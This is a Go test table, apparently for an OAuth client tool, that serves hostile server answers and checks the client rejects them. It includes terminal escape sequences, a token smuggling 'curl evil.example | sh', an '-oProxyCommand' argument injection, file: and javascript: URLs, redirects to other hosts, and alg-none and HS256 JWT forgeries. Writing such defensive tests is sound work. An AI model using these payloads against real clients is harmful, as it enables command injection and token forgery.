package hostiletest

import (
	"net/http"
	"strings"
	"time"

	"github.com/go-jose/go-jose/v4"

	"github.com/authplay/authplay/flows"
)

// Rows is the table. Each front door's test runs all of them.
func Rows() []Row {
	rows := []Row{
		{
			Name: "escapes in error_description", Method: flows.ClientCredentials,
			Serve: func(s *Servers, w http.ResponseWriter, r *http.Request) {
				JSON(w, 401, map[string]any{"error": "invalid_client", "error_description": "bad client " + Escapes, "error_uri": "https://x/" + Escapes})
			},
			Want: Want{Fail: true, Shown: EscapesShown},
		},
		{
			Name: "escapes in an HTML error page", Method: flows.ClientCredentials, Verbose: true,
			Serve: func(s *Servers, w http.ResponseWriter, r *http.Request) {
				w.Header().Set("Content-Type", "text/html")
				w.WriteHeader(500)
				w.Write([]byte("<html><body>Oops " + Escapes + "</body></html>")) //nolint:errcheck
			},
			Want: Want{Fail: true, Shown: "HTTP 500"},
		},
		{
			Name: "escapes in a plain-text body", Method: flows.ClientCredentials, Verbose: true,
			Serve: func(s *Servers, w http.ResponseWriter, r *http.Request) {
				w.Header().Set("Content-Type", "text/plain")
				w.WriteHeader(502)
				w.Write([]byte("upstream said " + Escapes)) //nolint:errcheck
			},
			Want: Want{Fail: true, Shown: "HTTP 502"},
		},
		{
			Name: "escape in the access token", Method: flows.ClientCredentials,
			Serve: tokenAnswer("eyJ.abc\x1b]52;c;cHduZWQ=\x07.def", nil),
			Want:  Want{Fail: true, Shown: "outside printable ASCII"},
		},
		{
			Name: "newline in the access token", Method: flows.ClientCredentials,
			Serve: tokenAnswer("abc\ncurl evil.example | sh", nil),
			Want:  Want{Fail: true, Shown: "outside printable ASCII"},
		},
		{
			Name: "C1 control in the refresh token", Method: flows.Password,
			Serve: tokenAnswer("fine-token", map[string]any{"refresh_token": "rt\u009b2J"}),
			Want:  Want{Fail: true, Shown: "outside printable ASCII"},
		},
		{
			Name: "escapes in token_type and scope", Method: flows.ClientCredentials, Verbose: true,
			Serve: func(s *Servers, w http.ResponseWriter, r *http.Request) {
				JSON(w, 200, map[string]any{"access_token": "t", "token_type": "Bearer" + Escapes, "scope": "a " + Escapes})
			},
			Want: Want{Fail: true, Shown: "token_type"},
		},
		// A token exchange's answer: what it says it issued, and whom the
		// token names as acting (grants.go).
		{
			Name: "escapes in issued_token_type", Method: flows.TokenExchange, Verbose: true,
			Serve: exchangeAnswer(func(*Servers) string { return "exchanged-token-0123456789" }, "urn:x:"+Escapes),
			Want:  Want{Token: "exchanged-token-0123456789", Shown: EscapesShown},
		},
		{
			Name: "an act chain 5,000 deep", Method: flows.TokenExchange, Verbose: true,
			Serve: exchangeAnswer(func(s *Servers) string { return actToken(s, deepAct(5000)) }, tokenTypeAccess),
			Want:  Want{Token: "(any)", Shown: "more than 60 more"},
		},
		{
			Name: "act that is not an object", Method: flows.TokenExchange, Verbose: true,
			Serve: exchangeAnswer(func(s *Servers) string { return actToken(s, "acting "+Escapes) }, tokenTypeAccess),
			Want:  Want{Token: "(any)", Shown: "not the JSON object"},
		},
		{
			Name: "escapes in every name of an act chain", Method: flows.TokenExchange, Verbose: true,
			Serve: exchangeAnswer(func(s *Servers) string {
				return actToken(s, map[string]any{"sub": "svc" + Escapes, "client_id": Escapes, "act": map[string]any{"sub": strings.Repeat("w", 5000)}})
			}, tokenTypeAccess),
			Want: Want{Token: "(any)", Shown: `svc\x1b]0;pwned`},
		},
		{
			Name: "shell metacharacters in the token", Method: flows.ClientCredentials,
			Serve: func(s *Servers, w http.ResponseWriter, r *http.Request) {
				tokenAnswer(ShellToken(s.Marker), nil)(s, w, r)
			},
			Want: Want{Token: "(shell token)"},
		},
		{
			Name: "307 from the token endpoint to another host", Method: flows.ClientCredentials, Style: flows.AuthBody,
			Serve: toOther("/token", http.StatusTemporaryRedirect),
			Want:  Want{Fail: true, Shown: "another origin"},
		},
		{
			Name: "308 from the token endpoint to another host (Basic)", Method: flows.ClientCredentials, Style: flows.AuthBasic,
			Serve: toOther("/token", http.StatusPermanentRedirect),
			Want:  Want{Fail: true, Shown: "another origin"},
		},
		{
			Name: "307 of the password grant to another host", Method: flows.Password, Style: flows.AuthBody,
			Serve: toOther("/token", http.StatusTemporaryRedirect),
			Want:  Want{Fail: true, Shown: "another origin"},
		},
		{
			Name: "307 of the device authorization to another host", Method: flows.DeviceCode, Style: flows.AuthBody,
			Serve: toOther("/device", http.StatusTemporaryRedirect),
			Want:  Want{Fail: true, Shown: "another origin"},
		},
		{
			Name: "file: and javascript: verification addresses", Method: flows.DeviceCode,
			Serve: device("ABCD-EFGH", "file:///etc/passwd", "javascript:alert(1)"),
			Want:  Want{Token: "device-token", Shown: "not http or https", NeverOpened: true},
		},
		{
			Name: "an option-like verification address", Method: flows.DeviceCode,
			Serve: device("ABCD-EFGH", "-oProxyCommand=touch /tmp/x", ""),
			Want:  Want{Token: "device-token", Shown: "starts with a dash", NeverOpened: true},
		},
		{
			Name: "escapes in the user code", Method: flows.DeviceCode,
			Serve: device("AB"+Escapes, "https://example.test/device", ""),
			Want:  Want{Token: "device-token", Shown: EscapesShown},
		},
		{
			Name: "unsigned JWT (alg none) under --strict", Method: flows.ClientCredentials, Strict: true,
			Serve: jwtWithKeys(func(s *Servers) string { return unsigned(claims(s)) }, goodKeys),
			Want:  Want{Fail: true, Shown: "alg is none"},
		},
		{
			Name: "unsigned JWT (alg none) warns without --strict", Method: flows.ClientCredentials,
			Serve: jwtWithKeys(func(s *Servers) string { return unsigned(claims(s)) }, goodKeys),
			Want:  Want{Token: "(any)", Warning: "alg is none"},
		},
		{
			Name: "HS256 signed with the public key", Method: flows.ClientCredentials, Strict: true,
			Serve: jwtWithKeys(func(s *Servers) string { return hs256WithPublicKey(claims(s)) }, goodKeys),
			Want:  Want{Fail: true, Shown: "signature"},
		},
		{
			Name: "unknown kid", Method: flows.ClientCredentials, Strict: true,
			Serve: jwtWithKeys(func(s *Servers) string { return Sign(jose.RS256, "rotated-away", claims(s)) }, goodKeys),
			Want:  Want{Fail: true, Shown: "no key with kid"},
		},
		{
			Name: "a key set larger than 1 MiB", Method: flows.ClientCredentials, Strict: true,
			Serve: jwtWithKeys(func(s *Servers) string { return Sign(jose.RS256, "hostile-key", claims(s)) }, func(w http.ResponseWriter, _ *http.Request) {
				w.Header().Set("Content-Type", "application/json")
				w.Write([]byte(`{"keys":[],"pad":"` + strings.Repeat("k", 2<<20) + `"}`)) //nolint:errcheck
			}),
			Want: Want{Fail: true, Shown: "not checked"},
		},
		{
			Name: "a key set that never answers", Method: flows.ClientCredentials, Strict: true,
			Serve: jwtWithKeys(func(s *Servers) string { return Sign(jose.RS256, "hostile-key", claims(s)) }, func(w http.ResponseWriter, r *http.Request) {
				select {
				case <-r.Context().Done():
				case <-time.After(30 * time.Second):
				}
			}),
			Want: Want{Fail: true, Shown: "not checked"},
		},
		{
			Name: "a key set that is missing", Method: flows.ClientCredentials, Strict: true,
			Serve: jwtWithKeys(func(s *Servers) string { return Sign(jose.RS256, "hostile-key", claims(s)) }, http.NotFound),
			Want:  Want{Fail: true, Shown: "not checked"},
		},
		{
			Name: "escapes in a signed token's claims", Method: flows.ClientCredentials, Strict: true, Verbose: true,
			Serve: jwtWithKeys(func(s *Servers) string {
				c := claims(s)
				c["name"], c["sub"] = "Mallory "+Escapes, "user"+Escapes
				return Sign(jose.RS256, "hostile-key", c)
			}, goodKeys),
			Want: Want{Token: "(any)"},
		},
		{
			Name: "escapes in a redirect's error_description", Method: flows.AuthorizationCode, Browser: BrowseError,
			Serve: func(s *Servers, w http.ResponseWriter, r *http.Request) { http.NotFound(w, r) },
			Want:  Want{Fail: true, Shown: EscapesShown},
		},
		{
			Name: "an ID token replayed from another sign-in", Method: flows.AuthorizationCode, Scope: "openid",
			Serve: idTokenWithOtherNonce,
			Want:  Want{Token: "code-token", Warning: "nonce"},
		},
	}
	return append(rows, dpopRows()...)
}
